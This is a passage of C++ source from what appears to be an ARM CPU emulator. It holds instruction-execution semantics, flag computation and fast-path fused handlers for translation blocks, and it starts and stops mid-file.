  std::unique_ptr<JitEngine> jit_engine_;
  TbCache tb_cache_;
  /// Direct-mapped raw-pointer front over the TB cache: a hit costs one
  /// probe and no shared_ptr refcount traffic. Entries are tagged with the
  /// cache version so every invalidation voids them wholesale; pointers stay
  /// valid because killed blocks sit in the graveyard until exec_depth_ is
  /// zero (see run()).
  struct TbFrontEntry {
    u64 key = 0;
    u64 version = ~0ull;  // never a live TbCache version
    TranslationBlock* tb = nullptr;
  };
  static constexpr u32 kTbFrontBits = 10;
  std::vector<TbFrontEntry> tb_front_ =
      std::vector<TbFrontEntry>(1u << kTbFrontBits);
  int exec_depth_ = 0;  // nested exec_block frames (call_function re-entry)
  u64 fastpath_blocks_ = 0;
  u64 fastpath_insns_ = 0;
  u64 decode_lookups_ = 0;
  u64 decode_hits_ = 0;
};

}  // namespace ndroid::arm
