#include "arm/executor.h"

#include <bit>
#include <limits>

namespace ndroid::arm {

namespace {

constexpr u32 ror32(u32 v, u32 n) {
  n &= 31;
  return n == 0 ? v : (v >> n) | (v << (32 - n));
}

struct AddResult {
  u32 value;
  bool carry;
  bool overflow;
};

AddResult add_with_carry(u32 a, u32 b, bool carry_in) {
  const u64 unsigned_sum = static_cast<u64>(a) + b + (carry_in ? 1 : 0);
  const i64 signed_sum = static_cast<i64>(static_cast<i32>(a)) +
                         static_cast<i32>(b) + (carry_in ? 1 : 0);
  const u32 result = static_cast<u32>(unsigned_sum);
  return {result, unsigned_sum != result,
          signed_sum != static_cast<i32>(result)};
}

}  // namespace

bool condition_passed(Cond cond, const CPUState& s) {
  switch (cond) {
    case Cond::kEQ: return s.z;
    case Cond::kNE: return !s.z;
    case Cond::kCS: return s.c;
    case Cond::kCC: return !s.c;
    case Cond::kMI: return s.n;
    case Cond::kPL: return !s.n;
    case Cond::kVS: return s.v;
    case Cond::kVC: return !s.v;
    case Cond::kHI: return s.c && !s.z;
    case Cond::kLS: return !s.c || s.z;
    case Cond::kGE: return s.n == s.v;
    case Cond::kLT: return s.n != s.v;
    case Cond::kGT: return !s.z && s.n == s.v;
    case Cond::kLE: return s.z || s.n != s.v;
    case Cond::kAL: return true;
  }
  return true;
}

u32 read_reg(const CPUState& state, u8 reg, GuestAddr pc, bool align_pc) {
  if (reg == kRegPC) {
    const u32 v = pc + (state.thumb ? 4 : 8);
    return align_pc ? (v & ~3u) : v;
  }
  return state.regs[reg];
}

Operand2 operand2_value(const Insn& insn, const CPUState& state,
                        GuestAddr pc) {
  if (insn.imm_operand) {
    // Carry-out of a rotated immediate is bit 31 of the result when the
    // rotation is non-zero, else the existing carry.
    const bool carry =
        insn.shift_amount != 0 ? (insn.imm >> 31) != 0 : state.c;
    return {insn.imm, carry};
  }
  const u32 rm = read_reg(state, insn.rm, pc);
  u32 amount = insn.shift_amount;
  if (insn.shift_by_reg) {
    amount = state.regs[insn.rs] & 0xFF;
    if (amount == 0) return {rm, state.c};
  }
  switch (insn.shift) {
    case ShiftType::kLSL:
      if (amount == 0) return {rm, state.c};
      if (amount < 32) {
        return {rm << amount, ((rm >> (32 - amount)) & 1) != 0};
      }
      if (amount == 32) return {0, (rm & 1) != 0};
      return {0, false};
    case ShiftType::kLSR:
      if (amount < 32) return {rm >> amount, ((rm >> (amount - 1)) & 1) != 0};
      if (amount == 32) return {0, (rm >> 31) != 0};
      return {0, false};
    case ShiftType::kASR: {
      if (amount < 32) {
        const u32 result = static_cast<u32>(static_cast<i32>(rm) >> amount);
        return {result, ((rm >> (amount - 1)) & 1) != 0};
      }
      const bool sign = (rm >> 31) != 0;
      return {sign ? 0xFFFFFFFFu : 0u, sign};
    }
    case ShiftType::kROR: {
      const u32 eff = amount & 31;
      if (eff == 0) return {rm, (rm >> 31) != 0};
      const u32 result = ror32(rm, eff);
      return {result, (result >> 31) != 0};
    }
    case ShiftType::kRRX: {
      const u32 result = (rm >> 1) | (state.c ? 0x80000000u : 0);
      return {result, (rm & 1) != 0};
    }
  }
  return {rm, state.c};
}

GuestAddr mem_effective_address(const Insn& insn, const CPUState& state,
                                GuestAddr pc) {
  const u32 base = read_reg(state, insn.rn, pc, /*align_pc=*/true);
  u32 offset;
  if (insn.reg_offset) {
    Insn shifted = insn;
    shifted.imm_operand = false;
    offset = operand2_value(shifted, state, pc).value;
  } else {
    offset = insn.imm;
  }
  const u32 indexed = insn.add_offset ? base + offset : base - offset;
  return insn.pre_index ? indexed : base;
}

BlockTransfer block_transfer(const Insn& insn, const CPUState& state) {
  const u32 base = state.regs[insn.rn];
  const u32 count = static_cast<u32>(std::popcount(insn.reglist));
  BlockTransfer bt;
  bt.count = count;
  if (insn.base_increment) {
    bt.start = insn.before ? base + 4 : base;
    bt.new_base = base + 4 * count;
  } else {
    bt.start = insn.before ? base - 4 * count : base - 4 * count + 4;
    bt.new_base = base - 4 * count;
  }
  return bt;
}

namespace {

void write_pc_interworking(CPUState& state, u32 target) {
  state.thumb = (target & 1) != 0;
  state.set_pc(target & ~1u);
}

void set_nz(CPUState& state, u32 result) {
  state.n = (result >> 31) != 0;
  state.z = result == 0;
}

void exec_data_processing(const Insn& insn, CPUState& state, GuestAddr pc) {
  const u32 rn = read_reg(state, insn.rn, pc);
  const Operand2 op2 = operand2_value(insn, state, pc);

  u32 result = 0;
  bool write_rd = true;
  bool logical = false;
  AddResult add{};
  bool arithmetic = false;

  switch (insn.op) {
    case Op::kAnd: result = rn & op2.value; logical = true; break;
    case Op::kEor: result = rn ^ op2.value; logical = true; break;
    case Op::kOrr: result = rn | op2.value; logical = true; break;
    case Op::kBic: result = rn & ~op2.value; logical = true; break;
    case Op::kMov: result = op2.value; logical = true; break;
    case Op::kMvn: result = ~op2.value; logical = true; break;
    case Op::kTst:
      result = rn & op2.value;
      logical = true;
      write_rd = false;
      break;
    case Op::kTeq:
      result = rn ^ op2.value;
      logical = true;
      write_rd = false;
      break;
    case Op::kSub:
      add = add_with_carry(rn, ~op2.value, true);
      arithmetic = true;
      break;
    case Op::kRsb:
      add = add_with_carry(~rn, op2.value, true);
      arithmetic = true;
      break;
    case Op::kAdd:
      add = add_with_carry(rn, op2.value, false);
      arithmetic = true;
      break;
    case Op::kAdc:
      add = add_with_carry(rn, op2.value, state.c);
      arithmetic = true;
      break;
    case Op::kSbc:
      add = add_with_carry(rn, ~op2.value, state.c);
      arithmetic = true;
      break;
    case Op::kRsc:
      add = add_with_carry(~rn, op2.value, state.c);
      arithmetic = true;
      break;
    case Op::kCmp:
      add = add_with_carry(rn, ~op2.value, true);
      arithmetic = true;
      write_rd = false;
      break;
    case Op::kCmn:
      add = add_with_carry(rn, op2.value, false);
      arithmetic = true;
      write_rd = false;
      break;
    default:
      throw GuestFault("exec_data_processing: bad op");
  }
  if (arithmetic) result = add.value;

  if (insn.set_flags && insn.rd != kRegPC) {
    set_nz(state, result);
    if (logical) {
      state.c = op2.carry;
    } else {
      state.c = add.carry;
      state.v = add.overflow;
    }
  }
  if (write_rd) {
    if (insn.rd == kRegPC) {
      write_pc_interworking(state, result);
    } else {
      state.regs[insn.rd] = result;
    }
  }
}

/// The per-opcode effects, after condition and ITSTATE handling. On entry
/// `state.pc()` already holds `next`; branch opcodes override it.
void execute_body(const Insn& insn, CPUState& state, mem::AddressSpace& memory,
                  GuestAddr pc, GuestAddr next) {
  switch (insn.op) {
    case Op::kUndefined:
      throw GuestFault("undefined instruction at 0x" + std::to_string(pc) +
                       " raw=0x" + std::to_string(insn.raw));
    case Op::kNop:
      return;

    case Op::kAnd:
    case Op::kEor:
    case Op::kSub:
    case Op::kRsb:
    case Op::kAdd:
    case Op::kAdc:
    case Op::kSbc:
    case Op::kRsc:
    case Op::kTst:
    case Op::kTeq:
    case Op::kCmp:
    case Op::kCmn:
    case Op::kOrr:
    case Op::kMov:
    case Op::kBic:
    case Op::kMvn:
      // PC-relative operand reads resolve via the explicit `pc` argument, so
      // state.pc() already holding `next` is harmless.
      exec_data_processing(insn, state, pc);
      return;

    case Op::kMovw:
      state.regs[insn.rd] = insn.imm;
      return;
    case Op::kMovt:
      state.regs[insn.rd] =
          (state.regs[insn.rd] & 0xFFFFu) | (insn.imm << 16);
      return;

    case Op::kMul: {
      const u32 result = state.regs[insn.rn] * state.regs[insn.rm];
      state.regs[insn.rd] = result;
      if (insn.set_flags) set_nz(state, result);
      return;
    }
    case Op::kMla: {
      const u32 result =
          state.regs[insn.rn] * state.regs[insn.rm] + state.regs[insn.rs];
      state.regs[insn.rd] = result;
      if (insn.set_flags) set_nz(state, result);
      return;
    }
    case Op::kUmull: {
      const u64 result =
          static_cast<u64>(state.regs[insn.rs]) * state.regs[insn.rm];
      state.regs[insn.rd] = static_cast<u32>(result);        // RdLo
      state.regs[insn.rn] = static_cast<u32>(result >> 32);  // RdHi
      if (insn.set_flags) {
        state.n = (result >> 63) != 0;
        state.z = result == 0;
      }
      return;
    }
    case Op::kSmull: {
      const i64 result = static_cast<i64>(static_cast<i32>(state.regs[insn.rs])) *
                         static_cast<i32>(state.regs[insn.rm]);
      state.regs[insn.rd] = static_cast<u32>(result);
      state.regs[insn.rn] = static_cast<u32>(static_cast<u64>(result) >> 32);
      if (insn.set_flags) {
        state.n = result < 0;
        state.z = result == 0;
      }
      return;
    }
    case Op::kSdiv: {
      const i32 dividend = static_cast<i32>(state.regs[insn.rn]);
      const i32 divisor = static_cast<i32>(state.regs[insn.rm]);
      i32 q = 0;
      if (divisor != 0) {
        if (dividend == std::numeric_limits<i32>::min() && divisor == -1) {
          q = dividend;  // ARM wraps
        } else {
          q = dividend / divisor;
        }
      }
      state.regs[insn.rd] = static_cast<u32>(q);
      return;
    }
    case Op::kUdiv: {
      const u32 divisor = state.regs[insn.rm];
      state.regs[insn.rd] = divisor == 0 ? 0 : state.regs[insn.rn] / divisor;
      return;
    }
    case Op::kClz:
      state.regs[insn.rd] =
          static_cast<u32>(std::countl_zero(state.regs[insn.rm]));
      return;

    case Op::kSxtb:
      state.regs[insn.rd] = static_cast<u32>(
          static_cast<i32>(static_cast<i8>(state.regs[insn.rm] & 0xFF)));
      return;
    case Op::kSxth:
      state.regs[insn.rd] = static_cast<u32>(
          static_cast<i32>(static_cast<i16>(state.regs[insn.rm] & 0xFFFF)));
      return;
    case Op::kUxtb:
      state.regs[insn.rd] = state.regs[insn.rm] & 0xFF;
      return;
    case Op::kUxth:
      state.regs[insn.rd] = state.regs[insn.rm] & 0xFFFF;
      return;

    case Op::kLdr:
    case Op::kLdrb:
    case Op::kLdrh:
    case Op::kLdrsb:
    case Op::kLdrsh: {
      const GuestAddr addr = mem_effective_address(insn, state, pc);
      u32 value = 0;
      switch (insn.op) {
        case Op::kLdr: value = memory.read32(addr); break;
        case Op::kLdrb: value = memory.read8(addr); break;
        case Op::kLdrh: value = memory.read16(addr); break;
        case Op::kLdrsb:
          value = static_cast<u32>(
              static_cast<i32>(static_cast<i8>(memory.read8(addr))));
          break;
        case Op::kLdrsh:
          value = static_cast<u32>(
              static_cast<i32>(static_cast<i16>(memory.read16(addr))));
          break;
        default: break;
      }
      if (insn.writeback && insn.rn != insn.rd) {
        const u32 base = state.regs[insn.rn];
        const u32 offset =
            insn.reg_offset ? operand2_value(insn, state, pc).value : insn.imm;
        state.regs[insn.rn] = insn.add_offset ? base + offset : base - offset;
      }
      if (insn.rd == kRegPC) {
        write_pc_interworking(state, value);
      } else {
        state.regs[insn.rd] = value;
      }
      return;
    }

    case Op::kStr:
    case Op::kStrb:
    case Op::kStrh: {
      const GuestAddr addr = mem_effective_address(insn, state, pc);
      const u32 value = read_reg(state, insn.rd, pc);
      switch (insn.op) {
        case Op::kStr: memory.write32(addr, value); break;
        case Op::kStrb: memory.write8(addr, static_cast<u8>(value)); break;
        case Op::kStrh: memory.write16(addr, static_cast<u16>(value)); break;
        default: break;
      }
      if (insn.writeback) {
        const u32 base = state.regs[insn.rn];
        const u32 offset =
            insn.reg_offset ? operand2_value(insn, state, pc).value : insn.imm;
        state.regs[insn.rn] = insn.add_offset ? base + offset : base - offset;
      }
      return;
    }

    case Op::kLdm: {
      const BlockTransfer bt = block_transfer(insn, state);
      GuestAddr addr = bt.start;
      bool loaded_pc = false;
      u32 pc_value = 0;
      u32 loaded[16];
      u32 idx = 0;
      for (u8 r = 0; r < 16; ++r) {
        if (!(insn.reglist & (1u << r))) continue;
        loaded[idx] = memory.read32(addr);
        if (r == kRegPC) {
          loaded_pc = true;
          pc_value = loaded[idx];
        }
        addr += 4;
        ++idx;
      }
      if (insn.writeback) state.regs[insn.rn] = bt.new_base;
      idx = 0;
      for (u8 r = 0; r < 16; ++r) {
        if (!(insn.reglist & (1u << r))) continue;
        if (r != kRegPC) state.regs[r] = loaded[idx];
        ++idx;
      }
      if (loaded_pc) write_pc_interworking(state, pc_value);
      return;
    }

    case Op::kStm: {
      const BlockTransfer bt = block_transfer(insn, state);
      GuestAddr addr = bt.start;
      for (u8 r = 0; r < 16; ++r) {
        if (!(insn.reglist & (1u << r))) continue;
        memory.write32(addr, read_reg(state, r, pc));
        addr += 4;
      }
      if (insn.writeback) state.regs[insn.rn] = bt.new_base;
      return;
    }

    case Op::kB:
    case Op::kBl: {
      if (insn.link) {
        state.set_lr(state.thumb ? (next | 1u) : next);
      }
      const u32 base = pc + (state.thumb ? 4 : 8);
      state.set_pc(base + static_cast<u32>(insn.branch_offset));
      return;
    }

    case Op::kBx:
    case Op::kBlxReg: {
      const u32 target = read_reg(state, insn.rm, pc);
      if (insn.link) {
        state.set_lr(state.thumb ? (next | 1u) : next);
      }
      write_pc_interworking(state, target);
      return;
    }

    case Op::kTbb:
    case Op::kTbh: {
      // Table branch: forward-only, always stays in Thumb state. A base of
      // PC addresses the table placed inline after the instruction.
      const u32 base = insn.rn == kRegPC ? pc + 4 : read_reg(state, insn.rn, pc);
      const u32 index = read_reg(state, insn.rm, pc);
      const u32 entry = insn.op == Op::kTbb
                            ? memory.read8(base + index)
                            : memory.read16(base + (index << 1));
      state.set_pc(pc + 4 + 2 * entry);
      return;
    }

    case Op::kIt:
      state.itstate = static_cast<u8>(insn.imm);
      return;

    case Op::kSvc:
      // Handled by the CPU run loop (kernel dispatch); executing one here
      // directly is a configuration error.
      throw GuestFault("raw SVC reached executor");
  }
}

}  // namespace

void execute(const Insn& insn, CPUState& state, mem::AddressSpace& memory) {
  const GuestAddr pc = state.pc();
  const GuestAddr next = pc + insn.length;
  state.set_pc(next);  // instruction effects below may override

  if (state.thumb && state.itstate != 0 && insn.op != Op::kIt) [[unlikely]] {
    const Cond cond = static_cast<Cond>(state.itstate >> 4);
    advance_itstate(state);
    if (!condition_passed(cond, state)) return;  // skipped; PC advanced
    if (insn.set_flags && insn.length == 2 && insn.op != Op::kCmp &&
        insn.op != Op::kCmn && insn.op != Op::kTst) {
      // Thumb-16 data processing inside an IT block reuses the
      // flag-setting encodings but must not set flags; compares do.
      Insn quiet = insn;
      quiet.set_flags = false;
      execute_body(quiet, state, memory, pc, next);
    } else {
      execute_body(insn, state, memory, pc, next);
    }
    // A taken branch (or an interworking switch out of Thumb) terminates
    // the IT block — the architecture calls a non-final branch in an IT
    // block unpredictable; defining it as an ITSTATE flush keeps the
    // interpretive and translation-block engines in exact agreement.
    if (state.itstate != 0 && (state.pc() != next || !state.thumb)) {
      state.itstate = 0;
    }
    return;
  }

  if (!condition_passed(insn.cond, state)) return;
  execute_body(insn, state, memory, pc, next);
}

// --- Fused handlers ---------------------------------------------------------
//
// Each handler assumes the shape select_fast_exec() verified: cond == AL, no
// PC operands, an unshifted register or plain immediate as operand 2. That
// lets the whole generic scaffolding (condition dispatch, operand2 shifter,
// 64-bit flag arithmetic, PC special cases) collapse to a few ALU ops.

bool ends_block(const Insn& insn) {
  switch (insn.op) {
    case Op::kB:
    case Op::kBl:
    case Op::kBx:
    case Op::kBlxReg:
    case Op::kTbb:
    case Op::kTbh:
    case Op::kSvc:
    case Op::kUndefined:
      return true;
    case Op::kLdm:
    case Op::kStm:
      return ((insn.reglist >> kRegPC) & 1) != 0 ||
             (insn.writeback && insn.rn == kRegPC);
    case Op::kStr:
    case Op::kStrb:
    case Op::kStrh:
      return insn.writeback && insn.rn == kRegPC;
    default:
      return insn.rd == kRegPC || (insn.writeback && insn.rn == kRegPC);
  }
}

namespace {

/// Data processing, flags untouched, Rd written.
template <Op OP, bool IMM>
void fast_dp(const Insn& insn, CPUState& s, mem::AddressSpace&) {
  s.regs[kRegPC] += insn.length;
  const u32 b = IMM ? insn.imm : s.regs[insn.rm];
  s.regs[insn.rd] = dp_compute<OP>(s.regs[insn.rn], b, s);
}

template <bool IMM>
void fast_cmp(const Insn& insn, CPUState& s, mem::AddressSpace&) {
  s.regs[kRegPC] += insn.length;
  set_sub_flags(s, s.regs[insn.rn], IMM ? insn.imm : s.regs[insn.rm]);
}

/// CMP rN, #0 — the loop-guard shape: a - 0 never borrows or overflows, so
/// the flag computation collapses to the sign and zero tests.
void fast_cmp_imm0(const Insn& insn, CPUState& s, mem::AddressSpace&) {
  s.regs[kRegPC] += insn.length;
  const u32 a = s.regs[insn.rn];
  s.n = (a >> 31) != 0;
  s.z = a == 0;
  s.c = true;
  s.v = false;
}

template <bool IMM>
void fast_cmn(const Insn& insn, CPUState& s, mem::AddressSpace&) {
  s.regs[kRegPC] += insn.length;
  set_add_flags(s, s.regs[insn.rn], IMM ? insn.imm : s.regs[insn.rm]);
}

template <bool IMM>
void fast_subs(const Insn& insn, CPUState& s, mem::AddressSpace&) {
  s.regs[kRegPC] += insn.length;
  const u32 a = s.regs[insn.rn];
  const u32 b = IMM ? insn.imm : s.regs[insn.rm];
  set_sub_flags(s, a, b);
  s.regs[insn.rd] = a - b;
}

template <bool IMM>
void fast_adds(const Insn& insn, CPUState& s, mem::AddressSpace&) {
  s.regs[kRegPC] += insn.length;
  const u32 a = s.regs[insn.rn];
  const u32 b = IMM ? insn.imm : s.regs[insn.rm];
  set_add_flags(s, a, b);
  s.regs[insn.rd] = a + b;
}

void fast_movw(const Insn& insn, CPUState& s, mem::AddressSpace&) {
  s.regs[kRegPC] += insn.length;
  s.regs[insn.rd] = insn.imm;
}

void fast_movt(const Insn& insn, CPUState& s, mem::AddressSpace&) {
  s.regs[kRegPC] += insn.length;
  s.regs[insn.rd] = (s.regs[insn.rd] & 0xFFFFu) | (insn.imm << 16);
}

void fast_mul(const Insn& insn, CPUState& s, mem::AddressSpace&) {
  s.regs[kRegPC] += insn.length;
  s.regs[insn.rd] = s.regs[insn.rn] * s.regs[insn.rm];
}

template <Op OP>
void fast_ext(const Insn& insn, CPUState& s, mem::AddressSpace&) {
  s.regs[kRegPC] += insn.length;
  const u32 v = s.regs[insn.rm];
  if constexpr (OP == Op::kSxtb) {
    s.regs[insn.rd] = static_cast<u32>(static_cast<i32>(static_cast<i8>(v)));
  }
  if constexpr (OP == Op::kSxth) {
    s.regs[insn.rd] = static_cast<u32>(static_cast<i32>(static_cast<i16>(v)));
  }
  if constexpr (OP == Op::kUxtb) s.regs[insn.rd] = v & 0xFF;
  if constexpr (OP == Op::kUxth) s.regs[insn.rd] = v & 0xFFFF;
}

/// Single-register load/store with an immediate offset. The addressing-mode
/// algebra (ADD = offset direction, PRE = indexed vs base address, WB =
/// base-register update) mirrors mem_effective_address() + the writeback
/// blocks in execute_body(). A load whose base equals its destination takes
/// the same net effect either way — execute_body() skips the writeback,
/// here the rd write lands last — so no rn==rd exclusion is needed.
template <Op OP, bool ADD, bool PRE, bool WB>
void fast_mem(const Insn& insn, CPUState& s, mem::AddressSpace& m) {
  s.regs[kRegPC] += insn.length;
  const u32 base = s.regs[insn.rn];
  const u32 indexed = ADD ? base + insn.imm : base - insn.imm;
  const GuestAddr addr = PRE ? indexed : base;
  if constexpr (OP == Op::kStr || OP == Op::kStrb || OP == Op::kStrh) {
    const u32 value = s.regs[insn.rd];
    if constexpr (OP == Op::kStr) m.write32(addr, value);
    if constexpr (OP == Op::kStrb) m.write8(addr, static_cast<u8>(value));
    if constexpr (OP == Op::kStrh) m.write16(addr, static_cast<u16>(value));
    if constexpr (WB) s.regs[insn.rn] = indexed;
  } else {
    u32 value = 0;
    if constexpr (OP == Op::kLdr) value = m.read32(addr);
    if constexpr (OP == Op::kLdrb) value = m.read8(addr);
    if constexpr (OP == Op::kLdrh) value = m.read16(addr);
    if constexpr (OP == Op::kLdrsb) {
      value = static_cast<u32>(static_cast<i32>(static_cast<i8>(m.read8(addr))));
    }
    if constexpr (OP == Op::kLdrsh) {
      value =
          static_cast<u32>(static_cast<i32>(static_cast<i16>(m.read16(addr))));
    }
    if constexpr (WB) s.regs[insn.rn] = indexed;
    s.regs[insn.rd] = value;
  }
}

template <Op OP>
FastExecFn pick_mem(const Insn& insn) {
  if (insn.pre_index) {
    if (insn.writeback) {
      return insn.add_offset ? fast_mem<OP, true, true, true>
                             : fast_mem<OP, false, true, true>;
    }
    return insn.add_offset ? fast_mem<OP, true, true, false>
                           : fast_mem<OP, false, true, false>;
  }
  if (!insn.writeback) return nullptr;  // post-index always writes back
  return insn.add_offset ? fast_mem<OP, true, false, true>
                         : fast_mem<OP, false, false, true>;
}

/// Direct branch (B/BL): PC-relative target from the decoded offset; BL
/// also writes the return address into LR. Branches terminate translation
/// blocks, so every loop back-edge pays this handler once per iteration.
template <bool LINK>
void fast_branch(const Insn& insn, CPUState& s, mem::AddressSpace&) {
  const u32 pc = s.regs[kRegPC];
  if constexpr (LINK) {
    const u32 next = pc + insn.length;
    s.set_lr(s.thumb ? (next | 1u) : next);
  }
  s.regs[kRegPC] =
      pc + (s.thumb ? 4u : 8u) + static_cast<u32>(insn.branch_offset);
}

/// Source of the ALU's second operand in a fused ALU-and-branch pair.
enum class CmpSrc { kImm0, kImm, kReg };

/// Shared tail of every fused pair: resolves the terminating direct branch
/// against the (now up-to-date) flags. `s.pc()` still holds the ALU
/// instruction's address; on exit it is the branch target or fall-through.
inline void fused_branch_tail(const Insn& alu, const Insn& br, CPUState& s) {
  const u32 br_pc = s.regs[kRegPC] + alu.length;
  if (condition_passed(br.cond, s)) {
    s.regs[kRegPC] =
        br_pc + (s.thumb ? 4u : 8u) + static_cast<u32>(br.branch_offset);
  } else {
    s.regs[kRegPC] = br_pc + br.length;
  }
}

/// Fused CMP + direct branch: one dispatch for the loop-guard idiom that
/// terminates most hot blocks.
template <CmpSrc SRC>
void fused_cmp_branch(const Insn& cmp, const Insn& br, CPUState& s) {
  const u32 a = s.regs[cmp.rn];
  if constexpr (SRC == CmpSrc::kImm0) {
    // a - 0 never borrows or overflows.
    s.n = (a >> 31) != 0;
    s.z = a == 0;
    s.c = true;
    s.v = false;
  } else {
    set_sub_flags(s, a, SRC == CmpSrc::kImm ? cmp.imm : s.regs[cmp.rm]);
  }
  fused_branch_tail(cmp, br, s);
}

/// Fused flagless data-processing op + direct branch (`add r, r, #1; b loop`
/// and friends). The flags stay untouched, so a conditional branch still
/// reads the older flags — exactly as sequential execution would.
template <Op OP, bool IMM>
void fused_dp_branch(const Insn& alu, const Insn& br, CPUState& s) {
  const u32 b = IMM ? alu.imm : s.regs[alu.rm];
  s.regs[alu.rd] = dp_compute<OP>(s.regs[alu.rn], b, s);
  fused_branch_tail(alu, br, s);
}

/// Fused SUBS/ADDS + direct branch (`subs r, r, #1; bne loop`).
template <bool IMM, bool SUB>
void fused_arith_flags_branch(const Insn& alu, const Insn& br, CPUState& s) {
  const u32 a = s.regs[alu.rn];
  const u32 b = IMM ? alu.imm : s.regs[alu.rm];
  if constexpr (SUB) {
    set_sub_flags(s, a, b);
    s.regs[alu.rd] = a - b;
  } else {
    set_add_flags(s, a, b);
    s.regs[alu.rd] = a + b;
  }
  fused_branch_tail(alu, br, s);
}

/// Conditional direct branch (B<cond>): the one conditional shape worth a
/// fast handler — loop exits and guards run it every iteration. Safe
/// outside IT blocks only (translation never fuses IT'd instructions, and
/// the run loop drains live ITSTATE interpretively), so insn.cond is the
/// effective condition here.
void fast_branch_cond(const Insn& insn, CPUState& s, mem::AddressSpace&) {
  const u32 pc = s.regs[kRegPC];
  if (condition_passed(insn.cond, s)) {
    s.regs[kRegPC] =
        pc + (s.thumb ? 4u : 8u) + static_cast<u32>(insn.branch_offset);
  } else {
    s.regs[kRegPC] = pc + insn.length;
  }
}

template <Op OP>
FastExecFn pick_dp(const Insn& insn) {
  if (insn.set_flags) {
    // Only the pure-arithmetic flag shapes are fused; logical flag setters
    // need the shifter carry-out, which stays on the general path.
    if constexpr (OP == Op::kCmp) {
      if (insn.imm_operand && insn.imm == 0) return fast_cmp_imm0;
      return insn.imm_operand ? fast_cmp<true> : fast_cmp<false>;
    }
    if constexpr (OP == Op::kCmn) {
      return insn.imm_operand ? fast_cmn<true> : fast_cmn<false>;
    }
    if (insn.rd == kRegPC) return nullptr;
    if constexpr (OP == Op::kSub) {
      return insn.imm_operand ? fast_subs<true> : fast_subs<false>;
    }
    if constexpr (OP == Op::kAdd) {
      return insn.imm_operand ? fast_adds<true> : fast_adds<false>;
    }
    return nullptr;
  }
  if constexpr (OP == Op::kCmp || OP == Op::kCmn || OP == Op::kTst ||
                OP == Op::kTeq) {
    return nullptr;  // compare ops without flags never occur
  } else {
    if (insn.rd == kRegPC) return nullptr;
    return insn.imm_operand ? fast_dp<OP, true> : fast_dp<OP, false>;
  }
}

}  // namespace

FastExecFn select_fast_exec(const Insn& insn) {
  if (insn.op == Op::kB || insn.op == Op::kBl) {
    if (insn.link) {
      return insn.cond == Cond::kAL ? fast_branch<true> : nullptr;
    }
    return insn.cond == Cond::kAL ? fast_branch<false> : fast_branch_cond;
  }
  if (insn.cond != Cond::kAL) return nullptr;
  switch (insn.op) {
    case Op::kAnd:
    case Op::kEor:
    case Op::kSub:
    case Op::kRsb:
    case Op::kAdd:
    case Op::kAdc:
    case Op::kSbc:
    case Op::kRsc:
    case Op::kCmp:
    case Op::kCmn:
    case Op::kOrr:
    case Op::kMov:
    case Op::kBic:
    case Op::kMvn: {
      if (insn.rn == kRegPC) return nullptr;
      if (!insn.imm_operand &&
          (insn.rm == kRegPC || insn.shift_by_reg ||
           insn.shift != ShiftType::kLSL || insn.shift_amount != 0)) {
        return nullptr;
      }
      switch (insn.op) {
        case Op::kAnd: return pick_dp<Op::kAnd>(insn);
        case Op::kEor: return pick_dp<Op::kEor>(insn);
        case Op::kSub: return pick_dp<Op::kSub>(insn);
        case Op::kRsb: return pick_dp<Op::kRsb>(insn);
        case Op::kAdd: return pick_dp<Op::kAdd>(insn);
        case Op::kAdc: return pick_dp<Op::kAdc>(insn);
        case Op::kSbc: return pick_dp<Op::kSbc>(insn);
        case Op::kRsc: return pick_dp<Op::kRsc>(insn);
        case Op::kCmp: return pick_dp<Op::kCmp>(insn);
        case Op::kCmn: return pick_dp<Op::kCmn>(insn);
        case Op::kOrr: return pick_dp<Op::kOrr>(insn);
        case Op::kMov: return pick_dp<Op::kMov>(insn);
        case Op::kBic: return pick_dp<Op::kBic>(insn);
        case Op::kMvn: return pick_dp<Op::kMvn>(insn);
        default: return nullptr;
      }
    }
    case Op::kMovw:
      return insn.rd == kRegPC ? nullptr : fast_movw;
    case Op::kMovt:
      return insn.rd == kRegPC ? nullptr : fast_movt;
    case Op::kMul:
      if (insn.set_flags || insn.rd == kRegPC) return nullptr;
      return fast_mul;
    case Op::kSxtb:
      return insn.rd == kRegPC || insn.rm == kRegPC ? nullptr
                                                    : fast_ext<Op::kSxtb>;
    case Op::kSxth:
      return insn.rd == kRegPC || insn.rm == kRegPC ? nullptr
                                                    : fast_ext<Op::kSxth>;
    case Op::kUxtb:
      return insn.rd == kRegPC || insn.rm == kRegPC ? nullptr
                                                    : fast_ext<Op::kUxtb>;
    case Op::kUxth:
      return insn.rd == kRegPC || insn.rm == kRegPC ? nullptr
                                                    : fast_ext<Op::kUxth>;
    default:
      return nullptr;
  }
}

FastExecFn select_fast_mem(const Insn& insn) {
  if (insn.cond != Cond::kAL || insn.reg_offset) return nullptr;
  if (insn.rn == kRegPC || insn.rd == kRegPC) return nullptr;
  switch (insn.op) {
    case Op::kLdr: return pick_mem<Op::kLdr>(insn);
    case Op::kLdrb: return pick_mem<Op::kLdrb>(insn);
    case Op::kLdrh: return pick_mem<Op::kLdrh>(insn);
    case Op::kLdrsb: return pick_mem<Op::kLdrsb>(insn);
    case Op::kLdrsh: return pick_mem<Op::kLdrsh>(insn);
    case Op::kStr: return pick_mem<Op::kStr>(insn);
    case Op::kStrb: return pick_mem<Op::kStrb>(insn);
    case Op::kStrh: return pick_mem<Op::kStrh>(insn);
    default: return nullptr;
  }
}

FusedPairFn select_fused_pair(const Insn& alu, const Insn& br) {
  if (br.op != Op::kB || br.link) return nullptr;
  if (alu.cond != Cond::kAL || alu.rn == kRegPC) return nullptr;
  if (!alu.imm_operand &&
      (alu.rm == kRegPC || alu.shift_by_reg ||
       alu.shift != ShiftType::kLSL || alu.shift_amount != 0)) {
    return nullptr;
  }
  if (alu.op == Op::kCmp) {
    if (alu.imm_operand) {
      return alu.imm == 0 ? fused_cmp_branch<CmpSrc::kImm0>
                          : fused_cmp_branch<CmpSrc::kImm>;
    }
    return fused_cmp_branch<CmpSrc::kReg>;
  }
  if (alu.rd == kRegPC) return nullptr;
  if (alu.set_flags) {
    // Only the pure-arithmetic flag shapes are fused (same rule as
    // pick_dp); logical flag setters need the shifter carry-out.
    if (alu.op == Op::kSub) {
      return alu.imm_operand ? fused_arith_flags_branch<true, true>
                             : fused_arith_flags_branch<false, true>;
    }
    if (alu.op == Op::kAdd) {
      return alu.imm_operand ? fused_arith_flags_branch<true, false>
                             : fused_arith_flags_branch<false, false>;
    }
    return nullptr;
  }
  switch (alu.op) {
    case Op::kAnd:
      return alu.imm_operand ? fused_dp_branch<Op::kAnd, true>
                             : fused_dp_branch<Op::kAnd, false>;
    case Op::kEor:
